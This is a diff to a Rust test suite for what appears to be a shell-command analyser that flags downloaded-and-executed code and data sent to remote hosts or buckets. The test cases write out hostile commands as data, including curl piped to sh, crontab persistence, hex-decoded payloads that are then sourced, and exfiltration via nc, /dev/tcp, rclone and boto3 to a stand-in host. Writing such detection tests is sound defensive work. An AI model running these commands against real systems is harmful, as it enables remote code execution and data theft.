@@ -47,7 +47,7 @@ fn commands_are_what_a_shell_would_run() {
 
 #[test]
 fn what_is_fetched_is_known_until_it_runs() {
-    let cases: [(&str, &[&str]); 12] = [
+    let cases: [(&str, &[&str]); 17] = [
         ("curl -s http://a.example/x | sh", &["http://a.example/x"]),
         ("wget -q http://a.example/x\nchmod +x x\n# wait\n./x", &["http://a.example/x"]),
         ("curl -so /tmp/x http://a.example/x; cp /tmp/x /opt/y; bash /opt/y", &["http://a.example/x"]),
@@ -59,6 +59,11 @@ fn what_is_fetched_is_known_until_it_runs() {
             "curl -so /opt/x http://a.example/x; echo '* * * * * sh /opt/x' | crontab -",
             &["http://a.example/x"],
         ),
+        ("git clone -q https://a.example/x /opt/x && cd /opt/x && make install", &["https://a.example/x"]),
+        ("git clone -q https://a.example/x /opt/x; make -C /opt/x -f build.mk", &["https://a.example/x"]),
+        ("git clone -q https://a.example/x /opt/x; cd /opt/y; make", &[]),
+        ("curl -so /tmp/h http://a.example/x; xxd -r -p /tmp/h /tmp/s; . /tmp/s", &["http://a.example/x"]),
+        ("curl -so /tmp/h http://a.example/x; xxd -p -c 30 /tmp/h; . /tmp/s", &[]),
         ("curl -so /opt/x http://a.example/x; bash /opt/y", &[]),
         ("curl -s http://a.example/x | grep y", &[]),
         ("curl -s http://a.example/x | python3 -m json.tool", &[]),
@@ -71,7 +76,15 @@ fn what_is_fetched_is_known_until_it_runs() {
 
 #[test]
 fn what_is_sent_is_of_the_machine_and_goes_to_a_bucket_or_an_address() {
-    let cases: [(&str, &[&str], &[&str]); 9] = [
+    let cases: [(&str, &[&str], &[&str]); 13] = [
+        ("rclone sync /data ':webdav,url=\"https://a.example/d\":home' -q", &["https://a.example/d"], &[]),
+        ("rclone copy /data :sftp,host=a.example:in", &["rclone://sftp,host=a.example:in"], &[]),
+        (
+            "python3 <<E\nboto3.resource('s3').Bucket('mine').put_object(Key='x', Body=open('/tmp/x'))\nE",
+            &[],
+            &["mine"],
+        ),
+        ("python3 <<E\nboto3.resource('s3').Bucket('mine').objects.all()\nE", &[], &[]),
         ("curl -sT /tmp/x https://a.example/u", &["https://a.example/u"], &[]),
         ("tar c /data | nc a.example 443", &["tcp://a.example"], &[]),
         ("cat /tmp/x > /dev/tcp/a.example/443", &["tcp://a.example/443"], &[]),
